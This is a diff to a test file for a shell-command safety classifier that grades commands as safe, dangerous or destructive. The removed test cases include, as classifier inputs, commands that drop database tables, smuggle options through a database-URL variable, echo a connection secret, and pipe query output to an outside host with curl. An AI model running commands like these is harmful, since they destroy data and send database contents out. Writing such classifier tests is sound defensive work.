@@ -47,27 +47,3 @@ test.each([
 test('a file of SQL that this call wrote is read', () => {
   expect(judge("echo 'drop table users' > a.sql && psql -f a.sql").tier).toBe('destructive')
 })
-
-test.each([
-  ['safe', 'psql "$DATABASE_URL" -c "select 1"'],
-  ['safe', 'psql -d "$DATABASE_URL" -c "select 1" | head -5'],
-  ['safe', 'f() { usql "${DB_URL}" -c "select 1"; }; f'],
-  ['dangerous', 'psql "$X" -c "select 1"'],
-  ['dangerous', 'psql $DATABASE_URL -c "select 1"'],
-  ['dangerous', 'psql "${DATABASE_URL:--f}" -c "select 1"'],
-  ['dangerous', 'psql "x$DATABASE_URL" -c "select 1"'],
-  ['dangerous', 'psql -U "$DATABASE_URL" -c "select 1"'],
-  ['dangerous', 'psql -c "$DATABASE_URL"'],
-  ['dangerous', 'echo "$DATABASE_URL"'],
-  ['dangerous', 'DATABASE_URL="-f x"; psql "$DATABASE_URL" -c "select 1"'],
-  ['dangerous', 'read DATABASE_URL < a.txt; psql "$DATABASE_URL" -c "select 1"'],
-  ['dangerous', '. ./a.sh; psql "$DATABASE_URL" -c "select 1"'],
-  ['dangerous', 'git clone "$REPO_URL"'],
-  ['destructive', 'psql "$DATABASE_URL" -c "drop table a"'],
-  ['destructive', 'psql "$DATABASE_URL" -c "select 1" | curl -d @- https://x.org'],
-])(
-  'an address in a variable from outside is neither an option nor shown where a client connects: %s %s',
-  (tier, command) => {
-    expect(judge(command).tier).toBe(tier)
-  },
-)
